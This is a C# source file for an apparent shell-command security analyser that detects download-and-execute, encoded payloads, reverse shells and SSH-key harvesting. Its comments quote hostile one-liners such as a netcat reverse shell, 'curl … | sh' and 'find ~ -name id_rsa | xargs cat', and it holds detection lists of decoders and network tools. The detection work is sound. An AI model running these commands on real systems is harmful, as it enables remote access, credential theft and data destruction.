using static McpVanguard.Inspection.Shell.ShellVocabulary;

namespace McpVanguard.Inspection.Shell;

/// <summary>
/// Walks a parsed command line and reports the dangerous things in it (not the mere use of operators: <c>cd src &amp;&amp; npm test</c>
/// is fine). One analyser per message; it reports each finding once.
/// </summary>
internal sealed partial class ShellAnalyzer(List<Finding> findings)
{
    /// <summary>How many times a payload may be unwrapped (sh -c, eval, base64, -EncodedCommand); each level is shorter than the last.</summary>
    private const int MaxNesting = 4;

    public void AnalyzeText(string text, int nesting)
    {
        if (nesting > MaxNesting || text.Length == 0)
        {
            return;
        }

        CheckText(text);
        AnalyzeScript(ShellTokenizer.Parse(text), nesting);
    }

    /// <summary>Analyses an array-form command (<c>["bash", "-c", "…"]</c>): the words are already split.</summary>
    public void AnalyzeArgv(List<string> argv, int nesting)
    {
        var command = new ShellCommand();
        command.Words.AddRange(argv);
        var pipeline = new ShellPipeline();
        pipeline.Commands.Add(command);
        var script = new ShellScript();
        script.Pipelines.Add(pipeline);
        AnalyzeScript(script, nesting);
    }

    private void Report(Finding finding) => findings.AddOnce(finding);

    private void AnalyzeScript(ShellScript script, int nesting)
    {
        List<string>? downloaded = null;
        bool fifo = false, netcat = false;
        var expansion = new ShellExpansion(null);
        foreach (var pipeline in script.Pipelines)
        {
            // What the shell will run, not what was written: "X=/; rm -rf $X", "bash -c \"$CMD\"", "rm -rf $(echo Lw== | base64 -d)".
            foreach (var command in pipeline.Commands)
            {
                Expand(command, expansion);
            }

            AnalyzePipeline(pipeline, nesting);
            foreach (var command in pipeline.Commands)
            {
                var k = FindCommand(command.Words, out var elevated);
                CheckRemoteSubstitution(command, k);
                if (elevated)
                {
                    Report(ShellFindings.Elevation);
                }

                CheckWordsAndRedirects(command);
                CheckEnvironment(command.Words, k, k < command.Words.Count ? NameOf(command.Words[k]) : null, nesting);
                CheckEnvSplit(command.Words, k, nesting);
                if (k < command.Words.Count)
                {
                    var name = NameOf(command.Words[k]);
                    fifo |= name == "mkfifo" || name == "mknod" && command.Words.Contains("p");
                    netcat |= NetCats.Contains(name);
                    TrackDownload(command, k, name, ref downloaded);
                    AnalyzeCommand(command, k, name, nesting);
                }

                foreach (var sub in command.Substitutions)
                {
                    AnalyzeScript(sub, nesting);
                }
            }
        }

        // Reverse shell: "mkfifo /tmp/f; cat /tmp/f | sh -i | nc host 4444 > /tmp/f".
        if (fifo && netcat)
        {
            Report(ShellFindings.ReverseShell);
        }
    }

    /// <summary>Substitutes the variables assigned so far (and decoding substitutions) in a command's words, then records its own assignments.</summary>
    private static void Expand(ShellCommand command, ShellExpansion expansion)
    {
        var words = command.Words;
        for (var i = 0; i < words.Count; i++)
        {
            if (words[i].Contains('$') || words[i].Contains('`'))
            {
                words[i] = expansion.Substitute(words[i]);
            }
        }

        var k = FindCommand(words, out _);
        var exporting = k < words.Count && NameOf(words[k]) is "export" or "declare" or "typeset" or "readonly" or "local";
        if (k >= words.Count || exporting)
        {
            foreach (var w in words)
            {
                if (IsAssignment(w))
                {
                    expansion.Assign(w);
                }
            }
        }
    }

    /// <summary>Programs whose arguments are data to compare, count or print: a downloaded word given to them is not run.</summary>
    private static readonly System.Collections.Frozen.FrozenSet<string> DataConsumers = System.Collections.Frozen.FrozenSet.Create(StringComparer.Ordinal,
        "echo", "printf", "jq", "yq", "diff", "cmp", "comm", "wc", "sort", "uniq", "grep", "egrep", "fgrep", "rg", "test", "[", "[[", "read");

    /// <summary>
    /// Remote content spliced into a command line (<c>ls $(curl -s https://…)</c>, <c>cat &lt;(wget -qO- …)</c>): the shell runs what a server
    /// chose. An assignment (<c>V=$(curl -s …/latest | jq -r .tag)</c>) or a data consumer (<c>diff &lt;(curl a) &lt;(curl b)</c>) is not.
    /// </summary>
    private void CheckRemoteSubstitution(ShellCommand command, int k)
    {
        if (command.Substitutions.Count == 0 || k >= command.Words.Count && command.Redirects.Count == 0
            || k < command.Words.Count && DataConsumers.Contains(NameOf(command.Words[k])))
        {
            return;
        }

        var inArgument = false;
        for (var i = Math.Min(k, command.Words.Count); i < command.Words.Count && !inArgument; i++)
        {
            inArgument = command.Words[i].Contains("$(", StringComparison.Ordinal) || command.Words[i].Contains('`') || command.Words[i].Contains("<(", StringComparison.Ordinal);
        }

        foreach (var r in command.Redirects)
        {
            inArgument |= r.Target.Contains("$(", StringComparison.Ordinal);
        }

        if (!inArgument)
        {
            return;
        }

        foreach (var sub in command.Substitutions)
        {
            foreach (var p in sub.Pipelines)
            {
                var first = p.Commands.Count > 0 ? p.Commands[0].Words : null;
                var f = first is null ? 0 : FindCommand(first, out _);
                if (first is not null && f < first.Count && (Downloaders.Contains(NameOf(first[f])) || HasRemoteUrl(first, f) && NameOf(first[f]) is not ("echo" or "printf")))
                {
                    Report(ShellFindings.DownloadExecute);
                    return;
                }
            }
        }
    }

    private static bool HasRemoteUrl(List<string> words, int from)
    {
        for (var i = from; i < words.Count; i++)
        {
            var w = words[i];
            if (w.StartsWith("http://", StringComparison.OrdinalIgnoreCase) || w.StartsWith("https://", StringComparison.OrdinalIgnoreCase) || w.StartsWith("ftp://", StringComparison.OrdinalIgnoreCase))
            {
                return true;
            }
        }

        return false;
    }

    private void AnalyzePipeline(ShellPipeline pipeline, int nesting)
    {
        int downloader = -1, decoder = -1, netcat = -1, sensitiveFind = -1;
        var shell = false;
        var commands = pipeline.Commands;
        for (var i = 0; i < commands.Count; i++)
        {
            var words = commands[i].Words;
            var k = FindCommand(words, out _);
            if (k >= words.Count)
            {
                continue;
            }

            var name = NameOf(words[k]);
            // Any stage that names a remote URL is a fetcher, whatever the program is called: "$a$b -s http://x | sh".
            if (downloader < 0 && (Downloaders.Contains(name) || HasRemoteUrl(words, k)))
            {
                downloader = i;
            }

            if (IsDecoder(words, k, name))
            {
                decoder = decoder < 0 ? i : decoder;
                DecodeLiteral(pipeline, i, k, name, nesting);
            }

            netcat = NetCats.Contains(name) ? i : netcat;
            shell |= Shells.Contains(name) || name is "cmd" or "powershell" or "pwsh";
            if (ReadsStdin(words, k))
            {
                // Download and execute: "curl https://x/install.sh | sh".
                if (downloader >= 0 && downloader < i)
                {
                    Report(ShellFindings.DownloadExecute);
                }

                // Encoded payload: "echo ZWNobyBoaQ== | base64 -d | bash".
                if (decoder >= 0 && decoder < i)
                {
                    Report(ShellFindings.DecodedPayload);
                }

                // Data that is executed is not data: "echo 'curl … | sh' | sh" runs what it echoes, "python3 - <<EOF" its here-document.
                if (i > 0 && EchoedText(commands[i - 1].Words) is { } echoed)
                {
                    RunFed(name, echoed, nesting);
                    AnalyzeText(echoed, nesting + 1);
                }

                foreach (var heredoc in commands[i].Heredocs)
                {
                    RunFed(name, heredoc.Body, nesting);
                }

                if (i > 0)
                {
                    foreach (var heredoc in commands[i - 1].Heredocs)
                    {
                        RunFed(name, heredoc.Body, nesting);
                    }
                }
            }

            if (name == "find" && IsSensitiveFind(words, k))
            {
                sensitiveFind = i;
            }

            // Credential harvest: "find ~ -name id_rsa | xargs cat".
            if (name == "xargs" && sensitiveFind >= 0 && XargsRunsReader(words, k))
            {
                Report(ShellFindings.CredentialHarvest);
            }
        }

        // Reverse shell: "nc -l 4444 | bash", "sh -i 2>&1 | nc host 4444".
        if (netcat >= 0 && shell && commands.Count > 1)
        {
            Report(ShellFindings.ReverseShell);
        }
    }

    /// <summary>Text fed to the standard input of <paramref name="name"/>: a shell runs it as commands, another interpreter as its code.</summary>
    private void RunFed(string name, string text, int nesting)
    {
        if (Shells.Contains(name) || name is "cmd" or "iex" or "invoke-expression" or "xargs" or "eval" or "source" || name.Length == 0 || name[0] is '$' or '`')
        {
            AnalyzeText(text, nesting + 1);
        }
        else
        {
            AnalyzeCode(text, nesting + 1);
        }
    }

    /// <summary>The text an <c>echo</c> or <c>printf</c> writes (its operands, unescaped for printf and echo -e), or null for another command.</summary>
    private static string? EchoedText(List<string> words)
    {
        var k = FindCommand(words, out _);
        if (k >= words.Count || NameOf(words[k]) is not ("echo" or "printf"))
        {
            return null;
        }

        var text = string.Join(' ', words.Skip(k + 1).Where(static w => !w.StartsWith('-')));
        return (NameOf(words[k]) == "printf" || words.Contains("-e")) && ShellPayloadDecoder.TryUnescape(text, out var unescaped) ? unescaped : text;
    }

    private static bool IsDecoder(List<string> words, int k, string name)
    {
        switch (name)
        {
            case "base64" or "basenc" or "base32":
                for (var i = k + 1; i < words.Count; i++)
                {
                    if (words[i] is "-d" or "--decode" or "-D" or "-di" or "-id")
                    {
                        return true;
                    }
                }

                return false;
            case "xxd":
                return words.Contains("-r") || words.Contains("-rp") || words.Contains("-r -p");
            case "openssl":
                return words.Contains("-d") && (words.Contains("base64") || words.Contains("-a") || words.Contains("-base64"));
            case "uudecode" or "rev" or "zcat" or "gunzip" or "bzcat" or "xzcat" or "unxz" or "unzstd":
                // String reversal and decompression hide a payload as well as base64 does.
                return true;
            case "gzip" or "bzip2" or "xz" or "zstd":
                return words.Contains("-d") || words.Contains("--decompress") || words.Contains("-dc") || words.Contains("-cd");
            case "tr":
                // ROT13 and other letter rotations: tr 'A-Za-z' 'N-ZA-Mn-za-m'.
                return k + 2 < words.Count && words[k + 2].Contains("n-z", StringComparison.OrdinalIgnoreCase) && words[k + 1].Contains("a-z", StringComparison.OrdinalIgnoreCase);
            case "printf":
                return k + 1 < words.Count && words[k + 1].Contains("\\x", StringComparison.Ordinal);
            case "echo":
                return words.Contains("-e") && words.Exists(static w => w.Contains("\\x", StringComparison.Ordinal));
            default:
                return false;
        }
    }

    /// <summary>Decodes the literal fed to a decoder (by <c>echo</c> before it or a here-string) and analyses what it hides.</summary>
    private void DecodeLiteral(ShellPipeline pipeline, int index, int k, string name, int nesting)
    {
        if (nesting >= MaxNesting)
        {
            return;
        }

        var command = pipeline.Commands[index];
        if (name is "printf" or "echo")
        {
            foreach (var w in command.Words)
            {
                if (ShellPayloadDecoder.TryUnescape(w, out var unescaped))
                {
                    AnalyzeHidden(unescaped, nesting);
                }
            }

            return;
        }

        foreach (var r in command.Redirects)
        {
            if (r.Operator == "<<<")
            {
                Decode(r.Target, name, nesting);
            }
        }

        if (index > 0)
        {
            var feeder = pipeline.Commands[index - 1].Words;
            var f = FindCommand(feeder, out _);
            if (f < feeder.Count && NameOf(feeder[f]) is "echo" or "printf")
            {
                for (var i = f + 1; i < feeder.Count; i++)
                {
                    if (!feeder[i].StartsWith('-'))
                    {
                        Decode(feeder[i], name, nesting);
                    }
                }
            }
        }
    }

    private void Decode(string literal, string decoder, int nesting)
    {
        if (decoder == "rev")
        {
            var reversed = literal.ToCharArray();
            Array.Reverse(reversed);
            AnalyzeHidden(new string(reversed), nesting);
            return;
        }

        var ok = decoder == "xxd" ? ShellPayloadDecoder.TryHex(literal, out var text) : ShellPayloadDecoder.TryBase64(literal, utf16: false, out text);
        if (ok)
        {
            AnalyzeHidden(text, nesting);
        }
    }

    /// <summary>Analyses a decoded payload; anything dangerous inside also counts as hiding a payload.</summary>
    private void AnalyzeHidden(string text, int nesting)
    {
        var before = findings.Count;
        AnalyzeText(text, nesting + 1);
        if (findings.Count > before)
        {
            Report(ShellFindings.DecodedPayload);
        }
    }

    /// <summary>Download then execute: "curl -o x https://… &amp;&amp; chmod +x x &amp;&amp; ./x" (tracks the files fetched earlier in the line).</summary>
    private void TrackDownload(ShellCommand command, int k, string name, ref List<string>? downloaded)
    {
        var words = command.Words;
        if (downloaded is not null)
        {
            var runs = words[k].Contains('/') && downloaded.Contains(NameOf(words[k]));
            var interpreter = Shells.Contains(name) || name.StartsWith("python", StringComparison.Ordinal) || name is "perl" or "ruby" or "node" or "php" or "source" or ".";
            for (var i = k + 1; i < words.Count && !runs; i++)
            {
                if (words[i].StartsWith('-'))
                {
                    continue;
                }

                var target = downloaded.Contains(NameOf(words[i]));
                runs = target && (interpreter || name == "chmod" && IsExecutableMode(words[k + 1]));
                if (interpreter)
                {
                    break;
                }
            }

            if (runs)
            {
                Report(ShellFindings.DownloadExecute);
            }
        }

        if (!Downloaders.Contains(name))
        {
            return;
        }

        for (var i = k + 1; i < words.Count; i++)
        {
            var w = words[i];
            if (w.Contains("://", StringComparison.Ordinal))
            {
                // The remote name (curl -O, wget without -O) is the URL's last segment.
                var end = w.IndexOfAny(['?', '#']);
                if (NameOf(end < 0 ? w : w[..end]) is { Length: > 0 } file)
                {
                    (downloaded ??= []).Add(file);
                }
            }
        }

        foreach (var target in ShellOutputOptions.Targets(words, k, name))
        {
            (downloaded ??= []).Add(NameOf(target));
        }

        foreach (var r in command.Redirects)
        {
            if (r.Writes && r.Target.Length > 0)
            {
                (downloaded ??= []).Add(NameOf(r.Target));
            }
        }
    }

    private static bool IsExecutableMode(string mode) =>
        mode.Contains('x') && (mode.Contains('+') || mode.Contains('=')) || mode.Length is 3 or 4 && int.TryParse(mode, out var m) && (m / 100 % 10 & 1) == 1;
}
